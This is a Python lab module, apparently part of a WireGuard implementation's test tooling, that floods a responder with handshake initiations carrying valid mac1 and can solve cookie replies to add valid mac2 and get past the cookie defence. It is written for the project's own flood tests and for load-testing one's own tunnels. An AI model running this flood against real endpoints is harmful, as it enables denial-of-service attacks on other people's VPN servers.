"""A handshake flood: initiations with a valid mac1 at a WireGuard responder, as an attacker
who knows only its public key would send them.

    python -m fz_trio.lab.flood --target 198.18.0.1:51820 --public-key KEY [--rate 100000]
        [--seconds 10] [--bind 198.18.0.66] [--solve-cookies]

`--rate 0` sends as fast as one process can (UDP GSO: 64 initiations per `sendmsg`, which a
receiver with UDP GRO takes in one read, as it would a burst off a real NIC; `--no-gso` sends
each on its own, so each costs the receiver a read).
`--solve-cookies` reads the cookie replies a responder under load sends, decrypts them (they
are encrypted to the mac1 we sent) and puts a valid mac2 on what follows, so the flood gets past
the cookie check; what stops it then is the responder's per-source rate limit. The messages
themselves are random (no key exchange can succeed), but each costs the responder its checks
and, past them, a Diffie-Hellman. At the end one JSON line says what was sent and received.

Lab code: the flood tests (tests/interop/test_flood.py) and anyone probing a tunnel they own.
Send it only to your own test network.
"""

from __future__ import annotations

import argparse
import json
import os
import signal
import socket
import struct
import sys
import time

from fz_trio.core import cookie, decode_key, messages

__all__ = ["main"]

SOL_UDP = 17
UDP_SEGMENT = 103
BATCH = 64  # initiations per sendmsg (the kernel's UDP GSO limit is 64 segments)
INITIATION_LEN = 148


def _initiation_body() -> bytes:
    """One random initiation, macs zero: sent over and over, so its mac1 (what the cookie
    replies are encrypted to) never changes."""
    sender = int.from_bytes(os.urandom(4), "little")
    return (struct.pack("<II", messages.TYPE_INITIATION, sender)
            + os.urandom(INITIATION_LEN - 8 - 32) + bytes(32))


def _read_replies(sock: socket.socket, jar: cookie.CookieJar, now: float) -> int:
    got = 0
    while True:
        try:
            data = sock.recv(2048, socket.MSG_DONTWAIT)
        except (BlockingIOError, InterruptedError):
            return got
        except OSError:  # ICMP errors reported on the socket
            continue
        if not data or data[0] != messages.TYPE_COOKIE_REPLY:
            continue
        try:
            reply = messages.parse_handshake(data)
        except messages.MessageError:
            continue
        if isinstance(reply, messages.CookieReply) and jar.consume_reply(reply, now):
            got += 1


def flood(target: tuple[str, int], public_key: bytes, *, rate: float, seconds: float,
          bind: str | None, solve_cookies: bool, gso: bool = True) -> dict[str, object]:
    family = socket.AF_INET6 if ":" in target[0] else socket.AF_INET
    sock = socket.socket(family, socket.SOCK_DGRAM)
    try:
        if bind:
            sock.bind((bind, 0))
        sock.connect(target)
        jar = cookie.CookieJar(public_key)  # the initiator's side, as a peer has it
        body = _initiation_body()
        sent = batches = cookies = errors = 0
        batch = BATCH if gso else 1
        interval = batch / rate if rate > 0 else 0.0
        start = time.monotonic()
        deadline = start + seconds
        due = start
        message = jar.stamp(body, start)
        stopping: list[int] = []
        for sig in (signal.SIGINT, signal.SIGTERM):  # stop, and still say what was sent
            signal.signal(sig, lambda signum, frame: stopping.append(signum))
        while not stopping:
            now = time.monotonic()
            if now >= deadline:
                break
            if interval:
                if now < due:
                    time.sleep(min(due - now, 0.01))
                    continue
                due += interval
                if due < now - 0.1:  # fell far behind: do not try to catch up in a burst
                    due = now
            if solve_cookies and batches % 16 == 0:
                solved = _read_replies(sock, jar, now)
                if solved:  # a fresh cookie: a new mac2 (mac1 stays)
                    cookies += solved
                    message = jar.stamp(body, now)
            try:
                if gso:
                    sock.sendmsg([message * BATCH], [(SOL_UDP, UDP_SEGMENT,
                                                      struct.pack("=H", INITIATION_LEN))])
                else:
                    sock.send(message)
            except OSError:  # ENOBUFS, ECONNREFUSED from an earlier ICMP: count, go on
                errors += 1
                continue
            sent += batch
            batches += 1
        elapsed = time.monotonic() - start
    finally:
        sock.close()
    return {"sent": sent, "seconds": round(elapsed, 3), "rate": round(sent / elapsed),
            "cookie_replies_solved": cookies, "send_errors": errors,
            "with_mac2": message[-16:] != bytes(16)}


def _endpoint(text: str) -> tuple[str, int]:
    host, _, port = text.rpartition(":")
    return host.strip("[]"), int(port)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m fz_trio.lab.flood",
                                     description=__doc__.split("\n\n")[0])
    parser.add_argument("--target", type=_endpoint, required=True, help="HOST:PORT")
    parser.add_argument("--public-key", required=True, help="the responder's, base64")
    parser.add_argument("--rate", type=float, default=0.0,
                        help="initiations per second (0: as fast as possible)")
    parser.add_argument("--seconds", type=float, default=10.0)
    parser.add_argument("--bind", help="source address to send from")
    parser.add_argument("--solve-cookies", action="store_true")
    parser.add_argument("--no-gso", dest="gso", action="store_false",
                        help="one datagram per send (each arrives on its own: no GRO run)")
    args = parser.parse_args(argv)
    result = flood(args.target, decode_key(args.public_key), rate=args.rate,
                   seconds=args.seconds, bind=args.bind, solve_cookies=args.solve_cookies,
                   gso=args.gso)
    print(json.dumps(result), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
